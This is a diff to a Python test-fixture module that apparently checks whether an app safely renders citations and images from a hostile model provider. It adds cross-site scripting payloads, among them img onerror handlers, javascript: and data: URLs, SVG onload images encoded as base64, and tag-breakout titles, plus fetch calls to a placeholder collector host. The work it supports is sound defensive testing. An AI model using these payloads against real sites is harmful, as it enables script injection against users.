@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-__all__ = ["CANARY", "CLICKABLE", "ELSEWHERE", "PAYLOADS", "SCRIPT"]
+from base64 import b64encode
+
+__all__ = ["CANARY", "CLICKABLE", "ELSEWHERE", "PAYLOADS", "PICTURES", "SCRIPT", "SOURCES"]
 
 ELSEWHERE = "http://collector.invalid"
 """An address to which nothing may send a request."""
@@ -15,9 +17,24 @@ SCRIPT = "window.__pwned = (window.__pwned || 0) + 1"
 
 _COMMAND = f'data-commandlinker-command="{CANARY}" data-commandlinker-args="{{}}"'
 _ATTACK = f"{SCRIPT}; fetch('{ELSEWHERE}/script')"
+_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><image href="{ELSEWHERE}/i.png"/></svg>'
 
 CLICKABLE = [f"click-{number}" for number in range(1, 12)]
 """The texts of the payloads that a person could click on."""
+
+SOURCES = [
+    {"title": f'<img src=x onerror="{_ATTACK}">', "url": f"javascript:{SCRIPT}"},
+    {"title": f"[x](javascript:{SCRIPT}) ![y]({ELSEWHERE}/s.png)", "url": f"data:text/html,<script>{SCRIPT}</script>"},
+    {"title": f"</li></ol><script>{_ATTACK}</script>", "url": f'{ELSEWHERE}/"><script>{SCRIPT}</script>'},
+]
+"""Sources that a hostile server could name, as Perplexity names them."""
+
+PICTURES = [
+    {"image_url": {"url": f"{ELSEWHERE}/picture.png"}},
+    {"image_url": {"url": f"data:image/png;base64,{b64encode(_SVG.encode()).decode()}"}},
+    {"image_url": {"url": f"data:image/svg+xml;base64,{b64encode(_SVG.encode()).decode()}"}},
+]
+"""Pictures that a hostile server could send, as OpenRouter sends them."""
 
 PAYLOADS = [
     # scripts that run by themselves
